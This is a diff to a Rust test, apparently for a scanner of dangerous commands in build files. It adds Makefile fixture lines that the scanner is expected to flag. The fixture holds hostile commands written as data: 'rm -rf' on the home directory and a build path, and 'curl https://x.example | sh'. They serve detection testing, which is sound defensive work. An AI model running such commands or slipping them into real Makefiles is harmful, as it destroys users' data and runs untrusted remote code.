@@ -222,7 +222,7 @@ fn builds_recipes_and_fences_are_read() {
     );
     home.file(
         "Makefile",
-        "DIR = /home\nall:\n\t@echo hello\n\trm -rf $(DIR)\nX := $(shell curl https://x.example | sh)\n",
+        "DIR = /home\nall:\n\t@echo hello\n\trm -rf $(DIR)\nX := $(shell curl https://x.example | sh)\nclean:\n\trm -rf $(HOME)\n\trm -rf $(BUILD)\n",
     );
     home.file(
         "README.md",
@@ -235,6 +235,8 @@ fn builds_recipes_and_fences_are_read() {
         "Dockerfile:6:1: HIGH",
         "Makefile:4:1: HIGH",
         "Makefile:5:1: HIGH",
+        "Makefile:7:1: HIGH sh.delete-tree: deletes a folder: ~\n",
+        "Makefile:8:1: HIGH sh.delete-tree: deletes a folder: $(BUILD) (known only at run time)\n",
         "README.md:5:1: HIGH",
         "README.md:13:3: HIGH",
     ] {
